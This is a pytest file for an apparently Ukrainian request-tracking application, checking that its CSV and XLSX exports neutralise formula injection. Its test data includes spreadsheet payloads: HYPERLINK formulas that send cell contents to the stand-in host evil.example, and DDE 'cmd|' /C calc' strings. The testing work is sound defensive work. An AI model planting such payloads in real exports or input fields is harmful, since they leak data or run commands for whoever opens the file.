"""Issue 13, break 3: formula injection in the CSV and XLSX exports.

Requesters, e-mail senders and executors put text that a spreadsheet would run as a formula
(``=HYPERLINK(…&A1)``, ``+``, ``-``, ``@``, a leading TAB or CR) into every place the exports
show it; every export each role may download is parsed back, and no cell may begin like a
formula (OWASP: a leading apostrophe) and no XLSX cell may be a formula.
"""
import csv
import datetime as dt
import io
from decimal import Decimal
from email.headerregistry import Address
from email.message import EmailMessage

import pytest
import time_machine
from openpyxl import load_workbook
from sqlalchemy import select, update

from tests.conftest import PASSWORD, create_test_user, csrf_token
from tests.factories import register
from tracker.auth.models import Role
from tracker.core.spreadsheet import safe_cell, xlsx_value
from tracker.core.timeutil import KYIV
from tracker.extensions import db
from tracker.register.models import Request, Requester

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
NAMES = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
         "@SUM(1+1)*cmd|' /C calc'!A0"]
#: Stored before input was cleaned (or by hand in the database): the exports must not rely
#: on the registration form having stripped them.
LEGACY_NAMES = ["\t=1+1", "\r=2+2"]
MAIL_NAME = '=HYPERLINK("http://evil.example/?mail="&C2,"open")'
MAIL_SUBJECT = "-1+1|cmd"
TAGS = ["=cmd|' /c calc'!a0", "@sum(9)"]
EXECUTOR_NAME = "@Виконавець"
PERIOD = {"from": "2018-03-01", "to": "2018-04-30"}
QUERY = "?from=2018-03-01&to=2018-04-30"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def travel():
    return time_machine.travel(dt.datetime(2018, 4, 20, 12, tzinfo=KYIV), tick=False)


@pytest.fixture
def hostile(app, runner, tmp_path):
    """Requests whose requester names, e-mail sender, subject, tags and executor all start
    like a formula. Returns the texts that must reach the exports (neutralised)."""
    people = {r.value: create_test_user(r) for r in Role if r != Role.EXECUTOR}
    executor = create_test_user(Role.EXECUTOR, name=EXECUTOR_NAME)
    with travel():
        reqs = [register(people["clerk"], requester={"name": name}, executor=executor.email)
                for name in NAMES + ["Легасі Запитувач"] * len(LEGACY_NAMES)]
        for req, name in zip(reqs[len(NAMES):], LEGACY_NAMES):
            db.session.execute(update(Requester).where(Requester.id == req.requester_id)
                               .values(name=name))
        msg = EmailMessage()
        msg["From"] = Address(display_name=MAIL_NAME, addr_spec="evil@example.com")
        msg["To"] = "zapyt@rada.example"
        msg["Subject"] = MAIL_SUBJECT
        msg["Date"] = "Tue, 03 Apr 2018 10:00:00 +0300"
        msg.set_content("Прошу надати інформацію.")
        (tmp_path / "hostile.eml").write_bytes(msg.as_bytes())
        mailed = runner.invoke(args=["intake", "eml", str(tmp_path / "hostile.eml"),
                                     "--register", "--user", people["clerk"].email])
        assert mailed.exit_code == 0, mailed.output
        stored = db.session.scalars(select(Request).where(Request.subject == MAIL_SUBJECT)).one()
        assert stored.requester.name == MAIL_NAME
        tagger = web(app, executor)
        done = tagger.post(f"/requests/{reqs[0].id}/tags",
                           data={"tags": ", ".join(TAGS), "csrf_token": csrf_token(tagger)})
        assert done.status_code == 302
    return {"people": people | {"executor": executor},
            "journal": NAMES + LEGACY_NAMES + [MAIL_NAME, MAIL_SUBJECT, EXECUTOR_NAME],
            "report": TAGS, "executors": [EXECUTOR_NAME]}


def web(app, user):
    """A test client of its own, logged in as ``user`` through the login form."""
    client = app.test_client()
    response = client.post("/login", data={"email": user.email, "password": PASSWORD,
                                           "csrf_token": csrf_token(client)})
    assert response.status_code == 302
    return client


def csv_cells(text: str, delimiter: str = ",") -> list[str]:
    return [c for row in csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=delimiter)
            for c in row]


def xlsx_cells(data: bytes) -> list:
    """Every cell of every sheet, read back from the file."""
    book = load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def assert_neutral_csv(text: str, expected: list[str], *, delimiter: str = ",",
                       contains: bool = False) -> None:
    cells = csv_cells(text, delimiter)
    assert [c for c in cells if c.startswith(FORMULA_START)] == []
    for hostile_text in expected:
        if contains:  # shown inside a label ("#тег", "Ім'я: надійшло")
            assert any(hostile_text in c for c in cells), hostile_text
        else:
            assert "'" + hostile_text in cells, hostile_text  # it is there, neutralised


def assert_neutral_xlsx(data: bytes, expected: list[str], *, contains: bool = False) -> None:
    cells = xlsx_cells(data)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    values = [c.value for c in cells if isinstance(c.value, str)]
    assert [v for v in values if v.startswith(FORMULA_START)] == []
    for hostile_text in expected:
        if contains:  # shown inside a label ("Мітки: …")
            assert any(hostile_text in v for v in values), hostile_text
        else:
            assert "'" + hostile_text in values, hostile_text


def test_web_journal_exports_neutralise_every_hostile_cell(app, hostile):
    people = hostile["people"]
    with travel():
        as_clerk = web(app, people["clerk"]).get(f"/reports/journal.csv{QUERY}")
        as_admin = web(app, people["admin"]).get(f"/reports/journal.xlsx{QUERY}")
    assert as_clerk.status_code == 200 and as_admin.status_code == 200
    # The pages' CSV is for Excel in a Ukrainian locale: ";" between fields.
    assert_neutral_csv(as_clerk.get_data(as_text=True), hostile["journal"], delimiter=";")
    # openpyxl drops no TAB or CR, so the legacy names come back exactly.
    assert_neutral_xlsx(as_admin.data, hostile["journal"])


def test_web_report_exports_neutralise_tags_and_executor_names(app, hostile):
    people = hostile["people"]
    with travel():
        report_csv = web(app, people["executor"]).get(f"/reports/report.csv{QUERY}")
        report_xlsx = web(app, people["head"]).get(f"/reports/report.xlsx{QUERY}")
        open_csv = web(app, people["head"]).get(f"/reports/open-data.csv{QUERY}")
    assert report_csv.status_code == 200 and report_xlsx.status_code == 200
    # Tags are shown as «#тег» and executors as «Ім'я: надійшло»: neutral either way.
    assert_neutral_csv(report_csv.get_data(as_text=True), hostile["report"] +
                       hostile["executors"], delimiter=";", contains=True)
    assert_neutral_xlsx(report_xlsx.data, hostile["executors"])
    assert_neutral_xlsx(report_xlsx.data, hostile["report"], contains=True)
    assert_neutral_csv(open_csv.get_data(as_text=True), [])


def test_api_journal_and_cli_report_neutralise_every_hostile_cell(app, hostile, api, runner,
                                                                 tmp_path):
    call = api(hostile["people"]["clerk"])
    with travel():
        text = call("GET", "/api/v1/reports/journal.csv",
                    query_string=PERIOD).get_data(as_text=True)
        semicolons = call("GET", "/api/v1/reports/journal.csv",
                          query_string=PERIOD | {"sep": "semicolon"}).get_data(as_text=True)
        book = call("GET", "/api/v1/reports/journal.xlsx", query_string=PERIOD)
        for fmt in ("csv", "xlsx"):
            result = runner.invoke(args=["report", "--from", PERIOD["from"], "--to", PERIOD["to"],
                                         "--format", fmt, "-o", str(tmp_path / f"r.{fmt}")])
            assert result.exit_code == 0, result.output
    assert_neutral_csv(text, hostile["journal"])
    assert_neutral_csv(semicolons, hostile["journal"], delimiter=";")
    assert_neutral_xlsx(book.data, hostile["journal"])
    assert_neutral_csv((tmp_path / "r.csv").read_text(encoding="utf-8"), hostile["report"])
    assert_neutral_xlsx((tmp_path / "r.xlsx").read_bytes(), hostile["executors"])


def test_safe_cell_prefixes_text_only():
    for text in NAMES + LEGACY_NAMES + ["-5", " =1+1", "\n@x", "\uff1d1+1"]:
        assert safe_cell(text) == "'" + text
    for value in (-5, -2.5, Decimal("-1.10"), dt.date(2018, 4, 2), None, True, "",
                  "Іваненко Марія", "25/К-1із", "a=b", "'=already quoted"):
        assert safe_cell(value) == value
    # XLSX: control characters XML cannot hold go first, so they cannot hide a formula.
    assert xlsx_value("\x01=1+1") == "'=1+1" and xlsx_value("ok\x07") == "ok"
    assert xlsx_value(-3) == -3
